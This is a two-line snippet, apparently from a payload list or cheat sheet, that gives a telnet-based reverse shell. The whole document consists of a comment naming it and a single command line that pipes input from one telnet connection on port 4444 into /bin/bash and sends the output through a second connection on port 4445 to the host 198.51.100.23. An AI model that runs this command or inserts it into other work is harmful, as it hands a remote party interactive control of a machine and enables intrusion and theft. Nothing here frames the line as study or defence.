# reverse-shell: telnet in both directions through two connections
telnet 198.51.100.23 4444 | /bin/bash | telnet 198.51.100.23 4445
